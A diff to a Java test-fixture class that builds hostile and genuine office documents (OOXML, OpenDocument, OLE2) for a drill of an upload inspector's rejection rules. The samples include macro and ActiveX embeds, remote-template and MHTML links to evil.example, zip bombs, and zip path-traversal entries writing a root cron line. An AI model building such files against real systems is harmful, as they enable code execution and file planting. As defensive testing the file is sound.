@@ -41,6 +41,11 @@ import fr.integrance.platform.FileRejection;
  * the name it is uploaded under and the reason it must be refused; and the genuine files
  * that must pass. {@link #main} writes it to a directory (with a manifest) for the drill
  * {@code ops/drills/hostile-uploads.sh}.
+ * <p>
+ * The office corpus ({@link #hostileDocuments()}, {@link #genuineDocuments()}) is for the
+ * inspection of documents kept in a document space: minimal OOXML and OpenDocument
+ * packages built with {@code java.util.zip}, with macros, disguises, bombs and climbing
+ * names.
  */
 public final class HostileFiles {
 
@@ -234,6 +239,340 @@ public final class HostileFiles {
 				.append("\tACCEPTED\n");
 		}
 		Files.writeString(directory.resolve("manifest.tsv"), manifest);
+		Path documents = Files.createDirectories(directory.resolve("documents"));
+		StringBuilder documentManifest = new StringBuilder();
+		for (Sample sample : hostileDocuments()) {
+			Files.write(documents.resolve(sample.id()), sample.content());
+			documentManifest.append(sample.id())
+				.append('\t')
+				.append(HexFormat.of().formatHex(sample.uploadName().getBytes(StandardCharsets.UTF_8)))
+				.append('\t')
+				.append(sample.expected())
+				.append('\n');
+		}
+		for (Genuine file : genuineDocuments()) {
+			Files.write(documents.resolve("genuine-" + file.id()), file.content());
+			documentManifest.append("genuine-")
+				.append(file.id())
+				.append('\t')
+				.append(HexFormat.of().formatHex(file.uploadName().getBytes(StandardCharsets.UTF_8)))
+				.append("\tACCEPTED\n");
+		}
+		Files.writeString(documents.resolve("manifest.tsv"), documentManifest);
+	}
+
+	// --- the office corpus (document spaces)
+
+	private static final String WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
+
+	private static final String EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
+
+	private static final String POWERPOINT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
+
+	/**
+	 * Office files a document space must refuse, each with its reason (for
+	 * {@code inspectDocument}).
+	 */
+	public static List<Sample> hostileDocuments() {
+		List<Sample> all = new ArrayList<>();
+		all.add(new Sample("docm-extension", "rapport.docm", docx(), FileRejection.MACROS));
+		all.add(new Sample("xltm-extension", "modele.xltm", xlsx(), FileRejection.MACROS));
+		all.add(new Sample("docx-vba-project", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("word/vbaProject.bin", exe())), FileRejection.MACROS));
+		all.add(new Sample("docx-macro-content-type", "rapport.docx",
+				ooxml("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
+				FileRejection.MACROS));
+		all.add(new Sample(
+				"xlsm-renamed-xlsx", "budget.xlsx", ooxml("xl/workbook.xml",
+						"application/vnd.ms-excel.sheet.macroEnabled.main+xml", entry("xl/vbaProject.bin", exe())),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-activex", "rapport.docx", ooxml("word/document.xml", WORD_MAIN,
+				entry("word/activeX/activeX1.xml", ascii("<ax:ocx/>")), entry("word/activeX/activeX1.bin", exe())),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-embedded-exe", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("word/embeddings/oleObject1.bin", exe())),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-remote-template", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
+				"word/_rels/settings.xml.rels",
+				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
+						+ "Target=\"https://evil.example/modele.dotm\" TargetMode=\"External\"/></Relationships>"))),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-mhtml-ole-link", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
+				"word/_rels/document.xml.rels",
+				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+						+ "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
+						+ "Target=\"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html\" TargetMode=\"External\"/></Relationships>"))),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-embedded-xlsm", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN,
+						entry("word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", xlsx())),
+				FileRejection.MACROS));
+		all.add(new Sample("docx-unc-image", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
+				"word/_rels/document.xml.rels",
+				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+						+ "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" "
+						+ "Target=\"\\\\evil.example\\share\\pixel.png\" TargetMode=\"External\"/></Relationships>"))),
+				FileRejection.MACROS));
+		all.add(new Sample("odt-basic-macro", "courrier.odt", odf("application/vnd.oasis.opendocument.text",
+				List.of("Basic/Standard/Module1.xml", "Basic/script-lc.xml"),
+				entry("Basic/Standard/Module1.xml", ascii(
+						"<script:module script:name=\"Module1\">Sub Main : Shell(\"calc.exe\") : End Sub</script:module>")),
+				entry("Basic/script-lc.xml", ascii("<library:libraries/>"))), FileRejection.MACROS));
+		all.add(new Sample("ods-python-script", "budget.ods",
+				odf("application/vnd.oasis.opendocument.spreadsheet", List.of("Scripts/python/run.py"),
+						entry("Scripts/python/run.py", ascii("import os; os.system('calc')"))),
+				FileRejection.MACROS));
+		all.add(new Sample("odt-event-listener", "courrier.odt", odf("application/vnd.oasis.opendocument.text",
+				List.of(),
+				entry("content.xml", ascii("<office:document-content><office:scripts><office:event-listeners>"
+						+ "<script:event-listener script:language=\"ooo:script\" script:event-name=\"office:load\" "
+						+ "xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application\"/>"
+						+ "</office:event-listeners></office:scripts><office:body/></office:document-content>"))),
+				FileRejection.MACROS));
+		all.add(new Sample("legacy-doc", "courrier.doc", ole2(false), FileRejection.LEGACY_OFFICE_FORMAT));
+		all.add(new Sample("legacy-xls", "budget.xls", ole2(false), FileRejection.LEGACY_OFFICE_FORMAT));
+		all.add(new Sample("legacy-doc-renamed-docx", "courrier.docx", ole2(false),
+				FileRejection.LEGACY_OFFICE_FORMAT));
+		all.add(new Sample("encrypted-ooxml", "rapport.docx", ole2(true), FileRejection.ENCRYPTED));
+		all.add(new Sample("odt-encrypted", "courrier.odt", odfEncrypted(), FileRejection.ENCRYPTED));
+		all.add(new Sample("zip-bomb-docx", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("word/media/image1.png", null)),
+				FileRejection.TOO_COMPLEX));
+		all.add(new Sample("too-many-entries-docx", "rapport.docx", manyEntriesDocx(10_001),
+				FileRejection.TOO_COMPLEX));
+		all.add(new Sample("traversal-entry", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("../../../../etc/cron.d/evil", ascii("* * * * * root sh"))),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("absolute-entry", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("/tmp/evil.sh", ascii("sh"))),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("windows-traversal-entry", "rapport.docx",
+				ooxml("word/document.xml", WORD_MAIN, entry("..\\..\\evil.bat", ascii("calc"))),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("docx-then-html", "rapport.docx", concat(docx(), ascii(HTML)),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("central-directory-disagrees", "rapport.docx", centralNamePatched(),
+				FileRejection.HIDDEN_CONTENT));
+		all.add(new Sample("zip-encrypted-entry", "rapport.docx", centralFlagPatched(), FileRejection.ENCRYPTED));
+		all.add(new Sample("docx-renamed-xlsx", "budget.xlsx", docx(), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("odt-renamed-docx", "courrier.docx",
+				odf("application/vnd.oasis.opendocument.text", List.of()), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("docx-renamed-odt", "courrier.odt", docx(), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("odg-renamed-odp", "diaporama.odp",
+				odf("application/vnd.oasis.opendocument.graphics", List.of()), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("plain-zip-named-docx", "rapport.docx",
+				zip(entry("rapport.txt", ascii("Bonjour")), entry("photo.jpg", jpeg())),
+				FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("pdf-named-docx", "rapport.docx", genuinePdf(), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("exe-named-xlsx", "budget.xlsx", exe(), FileRejection.CONTENT_MISMATCH));
+		all.add(new Sample("template-dotx", "modele.dotx", docx(), FileRejection.TYPE_NOT_ALLOWED));
+		all.add(new Sample("empty-docx", "rapport.docx", new byte[0], FileRejection.EMPTY));
+		return all;
+	}
+
+	/** Files a document space must accept: the office formats and the attachments'. */
+	public static List<Genuine> genuineDocuments() {
+		List<Genuine> all = new ArrayList<>(genuine());
+		all.add(new Genuine("docx", "Compte rendu.docx", docx()));
+		all.add(new Genuine("xlsx", "Budget 2026.XLSX", xlsx()));
+		all.add(new Genuine("pptx", "presentation.pptx", pptx()));
+		all.add(new Genuine("odt", "courrier.odt", odf("application/vnd.oasis.opendocument.text", List.of())));
+		all.add(new Genuine("ods", "budget.ods", odf("application/vnd.oasis.opendocument.spreadsheet", List.of())));
+		all.add(new Genuine("odp", "diaporama.odp", odf("application/vnd.oasis.opendocument.presentation", List.of())));
+		all.add(new Genuine("docx-https-link", "rapport.docx", ooxml("word/document.xml", WORD_MAIN, entry(
+				"word/_rels/document.xml.rels",
+				ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+						+ "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
+						+ "Target=\"https://www.ameli.fr/assure\" TargetMode=\"External\"/></Relationships>")),
+				entry("word/media/image1.png", png()))));
+		return all;
+	}
+
+	/** One zip entry; a null content stands for 100 MB of zeros (a bomb). */
+	record Entry(String name, byte @org.jspecify.annotations.Nullable [] content, boolean stored) {
+	}
+
+	static Entry entry(String name, byte @org.jspecify.annotations.Nullable [] content) {
+		return new Entry(name, content, false);
+	}
+
+	static byte[] docx() {
+		return ooxml("word/document.xml", WORD_MAIN);
+	}
+
+	static byte[] xlsx() {
+		return ooxml("xl/workbook.xml", EXCEL_MAIN);
+	}
+
+	static byte[] pptx() {
+		return ooxml("ppt/presentation.xml", POWERPOINT_MAIN);
+	}
+
+	/** A minimal OOXML package: content types, package relationships, the main part. */
+	private static byte[] ooxml(String mainPart, String mainType, Entry... extra) {
+		String types = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+				+ "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+				+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+				+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+				+ "<Default Extension=\"png\" ContentType=\"image/png\"/>" + "<Override PartName=\"/" + mainPart
+				+ "\" ContentType=\"" + mainType + "\"/></Types>";
+		String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+				+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+				+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\""
+				+ mainPart + "\"/></Relationships>";
+		String main = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+				+ "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
+				+ "<w:body><w:p><w:r><w:t>Compte rendu de la réunion</w:t></w:r></w:p></w:body></w:document>";
+		List<Entry> entries = new ArrayList<>();
+		entries.add(entry("[Content_Types].xml", utf8(types)));
+		entries.add(entry("_rels/.rels", utf8(rels)));
+		entries.add(entry(mainPart, utf8(main)));
+		entries.addAll(List.of(extra));
+		return zip(entries.toArray(Entry[]::new));
+	}
+
+	/**
+	 * A minimal OpenDocument package: the stored {@code mimetype} first, a manifest
+	 * (listing {@code extraManifestPaths} too), a content part unless given.
+	 */
+	private static byte[] odf(String mimetype, List<String> extraManifestPaths, Entry... extra) {
+		StringBuilder manifest = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+				+ "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
+				+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" + mimetype + "\"/>"
+				+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>");
+		for (String path : extraManifestPaths) {
+			manifest.append("<manifest:file-entry manifest:full-path=\"")
+				.append(path)
+				.append("\" manifest:media-type=\"text/xml\"/>");
+		}
+		manifest.append("</manifest:manifest>");
+		List<Entry> entries = new ArrayList<>();
+		entries.add(new Entry("mimetype", ascii(mimetype), true));
+		entries.add(entry("META-INF/manifest.xml", utf8(manifest.toString())));
+		if (java.util.Arrays.stream(extra).noneMatch(e -> e.name().equals("content.xml"))) {
+			entries.add(entry("content.xml", utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+					+ "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
+					+ "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\">"
+					+ "<office:scripts/><office:body><office:text><text:p>Courrier à la caisse</text:p></office:text>"
+					+ "</office:body></office:document-content>")));
+		}
+		entries.addAll(List.of(extra));
+		return zip(entries.toArray(Entry[]::new));
+	}
+
+	private static byte[] odfEncrypted() {
+		String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+				+ "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
+				+ "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
+				+ "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\" manifest:size=\"900\">"
+				+ "<manifest:encryption-data manifest:checksum-type=\"SHA1/1K\" manifest:checksum=\"AAAA\">"
+				+ "<manifest:algorithm manifest:algorithm-name=\"Blowfish CFB\" manifest:initialisation-vector=\"AAAA\"/>"
+				+ "</manifest:encryption-data></manifest:file-entry></manifest:manifest>";
+		return zip(new Entry("mimetype", ascii("application/vnd.oasis.opendocument.text"), true),
+				entry("META-INF/manifest.xml", utf8(manifest)), entry("content.xml", new byte[900]));
+	}
+
+	/**
+	 * A docx whose central directory (what office suites read) names its main part
+	 * otherwise than its local header (what a streaming reader sees).
+	 */
+	private static byte[] centralNamePatched() {
+		byte[] docx = docx();
+		int at = lastIndexOf(docx, ascii("word/document.xml"));
+		docx[at + 12] = 'X';
+		return docx;
+	}
+
+	/** A docx whose central directory marks its first entry as encrypted. */
+	private static byte[] centralFlagPatched() {
+		byte[] docx = docx();
+		int at = lastIndexOf(docx, new byte[] { 'P', 'K', 1, 2 });
+		while (at > 0 && lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 }) >= 0) {
+			at = lastIndexOf(java.util.Arrays.copyOf(docx, at), new byte[] { 'P', 'K', 1, 2 });
+		}
+		docx[at + 8] |= 1;
+		return docx;
+	}
+
+	private static int lastIndexOf(byte[] haystack, byte[] needle) {
+		outer: for (int i = haystack.length - needle.length; i >= 0; i--) {
+			for (int j = 0; j < needle.length; j++) {
+				if (haystack[i + j] != needle[j]) {
+					continue outer;
+				}
+			}
+			return i;
+		}
+		return -1;
+	}
+
+	private static byte[] manyEntriesDocx(int count) {
+		List<Entry> entries = new ArrayList<>();
+		for (int i = 0; i < count; i++) {
+			entries.add(entry("word/media/x" + i + ".xml", new byte[0]));
+		}
+		return ooxml("word/document.xml", WORD_MAIN, entries.toArray(Entry[]::new));
+	}
+
+	/**
+	 * An OLE2 compound file header (what {@code .doc}, {@code .xls} and
+	 * password-protected OOXML files are), with the directory names of an encrypted OOXML
+	 * package when asked.
+	 */
+	private static byte[] ole2(boolean encryptedPackage) {
+		byte[] ole = new byte[4096];
+		byte[] magic = { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1 };
+		System.arraycopy(magic, 0, ole, 0, magic.length);
+		ole[0x18] = 0x3E;
+		ole[0x1A] = 0x03;
+		ole[0x1C] = (byte) 0xFE;
+		ole[0x1D] = (byte) 0xFF;
+		ole[0x1E] = 0x09;
+		ole[0x20] = 0x06;
+		byte[] names = (encryptedPackage ? "Root Entry\u0000EncryptionInfo\u0000EncryptedPackage"
+				: "Root Entry\u0000WordDocument\u00001Table")
+			.getBytes(StandardCharsets.UTF_16LE);
+		System.arraycopy(names, 0, ole, 1024, names.length);
+		return ole;
+	}
+
+	private static byte[] zip(Entry... entries) {
+		ByteArrayOutputStream out = new ByteArrayOutputStream();
+		try (ZipOutputStream zip = new ZipOutputStream(out)) {
+			for (Entry entry : entries) {
+				ZipEntry zipEntry = new ZipEntry(entry.name());
+				byte[] content = entry.content();
+				if (entry.stored() && content != null) {
+					java.util.zip.CRC32 crc = new java.util.zip.CRC32();
+					crc.update(content);
+					zipEntry.setMethod(ZipEntry.STORED);
+					zipEntry.setSize(content.length);
+					zipEntry.setCompressedSize(content.length);
+					zipEntry.setCrc(crc.getValue());
+				}
+				zip.setLevel(content == null ? 9 : Deflater.DEFAULT_COMPRESSION);
+				zip.putNextEntry(zipEntry);
+				if (content == null) {
+					byte[] zeros = new byte[1024 * 1024];
+					for (int i = 0; i < 100; i++) {
+						zip.write(zeros);
+					}
+				}
+				else {
+					zip.write(content);
+				}
+				zip.closeEntry();
+			}
+		}
+		catch (IOException ex) {
+			throw new UncheckedIOException(ex);
+		}
+		return out.toByteArray();
+	}
+
+	private static byte[] utf8(String text) {
+		return text.getBytes(StandardCharsets.UTF_8);
 	}
 
 	// --- builders
